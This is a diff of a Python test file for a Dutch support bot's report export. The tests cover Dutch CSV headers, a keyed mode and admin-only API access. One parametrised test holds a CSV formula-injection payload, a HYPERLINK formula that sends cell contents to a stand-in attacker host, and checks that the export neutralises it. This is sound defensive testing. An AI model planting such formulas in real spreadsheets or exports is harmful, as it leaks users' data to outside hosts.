@@ -7,7 +7,7 @@ import io
 import os
 import subprocess
 import sys
-from datetime import datetime, timedelta
+from datetime import date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -21,6 +21,7 @@ from bot.desk.db import make_engine, make_sessionmaker, utcnow
 from bot.desk.handoffs.models import Handoff
 from bot.desk.reports.render import rows, to_csv, to_html
 from bot.desk.reports.service import PeriodError, compute, parse_since
+from bot.hours import short_date
 from tests.desk_support import desk, login, project, rasa  # noqa: F401 - fixtures
 
 NOW = utcnow()
@@ -111,9 +112,26 @@ def test_html_escapes_and_csv_holds_every_figure(seeded):
     page = to_html(r)
     assert "&lt;script&gt;" in page and "<script>" not in page and "jan@voorbeeld.nl" not in page
     assert "Waar is mijn pakket +100 % t.o.v. vorige week" in page and "<svg" in page
-    table = list(csv.reader(io.StringIO(to_csv(r))))
+    table = list(csv.reader(io.StringIO(to_csv(r, keys=True))))
     assert table[0] == ["metric", "key", "value"] and [tuple(row) for row in table[1:]] == rows(r)  # no formula here
     assert ["containment", "share", "0.750"] in table and ["callbacks", "on_time", "1"] in table
+
+
+def test_the_csv_speaks_dutch_with_the_same_figures_in_the_same_order(seeded):
+    r = report_for(seeded)
+    dutch = list(csv.reader(io.StringIO(to_csv(r))))
+    keyed = list(csv.reader(io.StringIO(to_csv(r, keys=True))))
+    assert dutch[0] == ["Onderdeel", "Wat", "Waarde"]
+    assert [row[2] for row in dutch][1:] == [row[2] for row in keyed][1:]  # one row per figure, the same values
+    assert ["Terugbelafspraken", "Op tijd", "1"] in dutch
+    assert ["Onderwerp", "Waar is mijn pakket", str(r.topics["order_status"])] in dutch
+    assert ["Waarom overgedragen", "Deadline in gevaar", "1"] in dutch
+    day = next(iter(r.per_day))
+    assert ["Gesprekken per dag", short_date(date.fromisoformat(day)), str(r.per_day[day])] in dutch
+    assert r.day_labels[day] == short_date(date.fromisoformat(day))
+    text = to_csv(r)
+    assert not [key for key in ("order_status", "deadline_at_risk", "callbacks", "topic_previous_period", day)
+                if key in text]
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@@ -121,7 +139,7 @@ def test_a_customer_message_that_starts_a_formula_is_text_in_the_csv(seeded, sta
     r = report_for(seeded)
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klik hier")'
     r.misunderstood = [{"text": formula, "count": 2}, {"text": "gewoon een vraag", "count": 1}]
-    text = to_csv(r)
+    text = to_csv(r, keys=True)
     table = list(csv.reader(io.StringIO(text)))
     assert ["misunderstood", "'" + formula, "2"] in table  # the spreadsheet shows it, it does not run it
     assert ["misunderstood", "gewoon een vraag", "1"] in table
@@ -146,7 +164,10 @@ def test_the_dashboard_api_shows_the_same_numbers_to_admins_only(desk, rasa):
                 "mean_score", "callbacks_on_time", "misunderstood"):
         assert got[key] == expected[key], key
     exported = requests.get(desk.url + "/api/reports.csv", params={"since": "7d"}, headers=admin)
-    assert exported.headers["content-type"].startswith("text/csv") and "order_status" in exported.text
+    assert exported.headers["content-type"].startswith("text/csv") and "Waar is mijn pakket" in exported.text
+    assert exported.text.startswith('"Onderdeel","Wat","Waarde"') and "order_status" not in exported.text
+    keyed = requests.get(desk.url + "/api/reports.csv", params={"since": "7d", "keys": "true"}, headers=admin)
+    assert keyed.text.startswith('"metric","key","value"') and '"topic","order_status"' in keyed.text
     assert requests.get(desk.url + "/api/reports", headers=login(desk, "anna", "wachtwoord-anna")).status_code == 403
     assert requests.get(desk.url + "/api/reports", params={"since": "ooit"}, headers=admin).status_code == 422
 
@@ -163,7 +184,7 @@ def test_bot_report_on_the_demo_data_writes_html_and_csv(tmp_path):
     page = (tmp_path / "out" / "balie-report-7d.html").read_text()
     table = (tmp_path / "out" / "balie-report-7d.csv").read_text()
     assert "Wat klanten nodig hebben" in page and "Sanne Bakker" not in page and "[naam]" in page
-    assert '"conversations","total",' in table and '"handoff_reason",' in table and '"callbacks","on_time",' in table
+    assert '"Gesprekken","Totaal",' in table and '"Waarom overgedragen",' in table and '"Terugbelafspraken","Op tijd",' in table
     again = subprocess.run([sys.executable, "-m", "bot", "report", "--since", "nooit"], env=env, capture_output=True,
                            text=True, cwd=ROOT)
     assert again.returncode == 2 and "7d" in again.stderr
